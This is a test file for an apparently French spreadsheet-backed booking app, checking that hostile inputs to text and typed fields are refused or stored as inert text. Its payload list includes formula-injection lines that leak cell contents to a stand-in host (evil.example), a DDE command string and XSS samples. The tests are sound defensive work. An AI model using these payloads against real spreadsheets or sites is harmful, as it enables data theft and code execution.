/**
 * Hostile input through the real API into the real sheet: each payload is refused with a French
 * message, or stored as inert text equal to what was typed. No payload ever becomes a formula.
 */
import { FIRST_DATA_ROW, HEADER_ROW, requireSheet } from '../../src/schema';
import { seedLabels } from '../../local/fixtures';
import { setUpHarness } from './harness';

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?leak="&A1, "Cliquez ici")',
  '=IMPORTXML(CONCAT("https://evil.example/?", A1:A10), "//a")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '＝1+1',
  '{=1+1}',
  '<img src=x onerror=alert(1)>',
  '<script>alert("x")</script>',
  'a'.repeat(50_001),
  'Atelier \u0000 vélo',
  '\u202eevil\u202c',
  '😀🎉 Fête des voisins',
  'שלום עולם',
  'مرحبا بكم',
  '0612345678',
  '29/03/2026',
  'TRUE',
  'VRAI',
  '1 234,50',
];

describe('hostile strings in text fields (title, notes)', () => {
  const h = setUpHarness();
  seedLabels(h.emulator, 'spaces', ['Grande salle']); // references are checked: the space exists
  const sheet = h.ss.getSheetByName('Réservations')!;
  const headers = sheet.getRange(HEADER_ROW, 1, 1, sheet.getLastColumn()).getValues()[0] as string[];
  const titleAt = headers.indexOf('Objet') + 1;
  const notesAt = headers.indexOf('Remarques') + 1;

  test.each(PAYLOADS.map((p) => [JSON.stringify(p).slice(0, 60), p]))(
    '%s is refused or stored inert',
    (_name, payload) => {
      const rowsBefore = sheet.getLastRow();
      const { result, stats } = h.api<{ row: number }>('saveRecord', {
        sheet: 'bookings',
        values: {
          space: 'Grande salle',
          title: payload.slice(0, 120),
          startDate: '01/09/2026',
          status: 'Option',
          notes: payload,
        },
        requestId: `hostile-${PAYLOADS.indexOf(payload).toString().padStart(4, '0')}`,
      });
      if (!result.ok) {
        expect(result.error.code).toBe('error.validation');
        for (const field of result.error.fields ?? []) expect(field.message).toMatch(/^(Le champ|L’heure) /);
        expect(stats.writes).toBe(0);
        expect(sheet.getLastRow()).toBe(rowsBefore);
        return;
      }
      const row = result.data.row;
      expect(row).toBeGreaterThanOrEqual(FIRST_DATA_ROW);
      for (const [at, typed] of [
        [titleAt, payload.slice(0, 120)],
        [notesAt, payload],
      ] as const) {
        const cell = sheet.getRange(row, at);
        expect(cell.getFormula()).toBe('');
        expect(cell.getValue()).toBe(typed.trim());
        expect(typeof cell.getValue()).toBe('string');
      }
    },
  );

  test('no formula appears in the bookings written by these payloads, outside Pilote’s computed columns', () => {
    const keys = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0].map(String);
    const computed = new Set(
      requireSheet('bookings')
        .columns.filter((c) => c.type === 'formula')
        .map((c) => c.key),
    );
    expect(computed.size).toBeGreaterThan(0);
    const formulas = sheet
      .getRange(FIRST_DATA_ROW, 1, sheet.getLastRow(), sheet.getLastColumn())
      .getFormulas();
    const stray = formulas.flatMap((row) => row.filter((f, c) => f !== '' && !computed.has(keys[c])));
    expect(stray).toEqual([]);
  });
});

describe('hostile strings in typed fields (money, integer, date, time, list)', () => {
  const h = setUpHarness();
  seedLabels(h.emulator, 'spaces', ['Grande salle']); // references are checked: the space exists
  const INJECTIONS = PAYLOADS.slice(0, 11);
  const TYPED = ['price', 'expectedAttendance', 'startDate', 'startTime', 'status'] as const;

  test.each(TYPED)('%s refuses every formula-looking payload, naming the field, writing nothing', (field) => {
    for (const payload of INJECTIONS) {
      const { result, stats } = h.api('saveRecord', {
        sheet: 'bookings',
        values: {
          space: 'Grande salle',
          title: 'Test',
          startDate: '01/09/2026',
          status: 'Option',
          [field]: payload,
        },
        requestId: `typed-${field}-${INJECTIONS.indexOf(payload).toString().padStart(4, '0')}`,
      });
      expect([field, payload, result.ok]).toEqual([field, payload, false]);
      if (!result.ok) expect(result.error.fields?.map((f) => f.field)).toEqual([field]);
      expect(stats.writes).toBe(0);
    }
  });

  test('the journal, which repeats titles, holds no formula either', () => {
    h.api('saveRecord', {
      sheet: 'bookings',
      values: { space: 'Grande salle', title: '=1+1', startDate: '01/09/2026', status: 'Option' },
      requestId: 'journal-formula-0001',
    });
    const journal = h.ss.getSheetByName('Journal')!;
    const formulas = journal.getRange(1, 1, journal.getLastRow(), journal.getLastColumn()).getFormulas();
    expect(formulas.flat().filter((f) => f !== '')).toEqual([]);
    expect(JSON.stringify(journal.getRange(journal.getLastRow(), 1, 1, 6).getValues())).toContain('=1+1');
  });
});
